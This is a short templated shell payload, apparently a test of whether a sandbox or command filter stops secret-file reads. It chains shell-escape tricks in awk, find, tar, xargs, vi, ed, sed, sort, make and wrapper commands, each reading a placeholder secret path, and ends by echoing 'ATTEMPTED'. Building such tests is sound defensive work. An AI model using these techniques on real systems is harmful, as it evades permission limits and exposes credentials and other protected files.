# Ordinary programs with a shell inside: awk, find, tar, xargs, vi, less, man, zip, sort.
awk 'BEGIN { system("cat @SECRET_PATH@") }'; find . -maxdepth 0 -exec cat @SECRET_PATH@ \;; tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='cat @SECRET_PATH@' . ; echo x | xargs -I{} cat @SECRET_PATH@
vi -es -c '!cat @SECRET_PATH@' -c q </dev/null; printf '!cat @SECRET_PATH@\n' | ed -s; sed '1e cat @SECRET_PATH@' /etc/hostname; sort --compress-program=cat -S 1k /etc/passwd >/dev/null; env cat @SECRET_PATH@; timeout 1 cat @SECRET_PATH@; nice cat @SECRET_PATH@; busybox cat @SECRET_PATH@; make -f - <<'X'
$(info $(shell cat @SECRET_PATH@))
all:
X
echo ATTEMPTED
